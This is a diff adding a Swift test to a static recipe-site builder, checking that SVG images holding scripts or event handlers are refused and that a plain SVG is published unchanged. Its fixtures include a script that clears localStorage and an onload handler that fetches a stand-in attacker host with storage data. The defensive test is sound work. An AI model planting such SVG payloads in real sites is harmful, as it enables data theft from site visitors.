@@ -48,6 +48,35 @@ import TestSupport
         #expect(!FileManager.default.fileExists(atPath: temp.path("site/public").path))
     }
 
+    /// An SVG in `gallery:` or `static/` that holds a script is refused (opened from the site it
+    /// would run with the site's storage); a plain drawing beside it is published byte for byte.
+    @Test(.timeLimit(.minutes(1))) func aDrawingWithAScriptIsRefusedAndAPlainOneIsPublished() throws {
+        let temp = try TemporaryFolder()
+        let plain = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"30\"><title>Toast</title><rect width=\"40\" height=\"30\" fill=\"#d9a05b\"/></svg>\n"
+        try temp.write("site/content/toast.md", "---\ntitle: Toast\nimage: toast.svg\ngallery: [crumbs.svg]\n---\n## Ingredients\n- 1 slice bread\n## Steps\n1. Toast.\n")
+        try temp.write("site/content/toast.svg", plain)
+        try temp.write("site/content/crumbs.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>localStorage.clear()</script></svg>")
+        try temp.write("site/static/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('//evil.example/'+localStorage.length)\"/>")
+        let build = try Executable.run(["build", ".", "-o", "public"], in: temp.path("site"))
+        #expect(build.status == 1)
+        #expect(build.stderr == """
+            content/crumbs.svg:1:1: error: This drawing holds a script, which could run on the site or load from elsewhere; export it as a PNG or JPEG and use that instead. [unsafe-drawing]
+            static/logo.svg:1:1: error: This drawing holds an event handler (onload), which could run on the site or load from elsewhere; export it as a PNG or JPEG and use that instead. [unsafe-drawing]
+            Not built: 2 errors. Fix them: they are not in a recipe, so --build-anyway cannot leave them out. The previous site is unchanged.
+
+            """)
+        #expect(!FileManager.default.fileExists(atPath: temp.path("site/public").path))
+
+        try FileManager.default.removeItem(at: temp.path("site/static/logo.svg"))
+        try temp.write("site/content/toast.md", "---\ntitle: Toast\nimage: toast.svg\n---\n## Ingredients\n- 1 slice bread\n## Steps\n1. Toast.\n")
+        try FileManager.default.removeItem(at: temp.path("site/content/crumbs.svg"))
+        let again = try Executable.run(["build", ".", "-o", "public"], in: temp.path("site"))
+        #expect(again.status == 0, "\(again.stderr)")
+        let published = try FileManager.default.subpathsOfDirectory(atPath: temp.path("site/public").path).filter { $0.hasSuffix(".svg") && !$0.hasPrefix("assets/") }
+        #expect(published.count == 1)
+        #expect(try published.first.map { try String(contentsOf: temp.path("site/public/\($0)"), encoding: .utf8) } == plain)
+    }
+
     /// A JPEG whose frame has no lines (it was written as `width="0" height="0"`).
     @Test(.timeLimit(.minutes(1))) func aPictureWithNoPixelsIsRefused() throws {
         let temp = try TemporaryFolder()
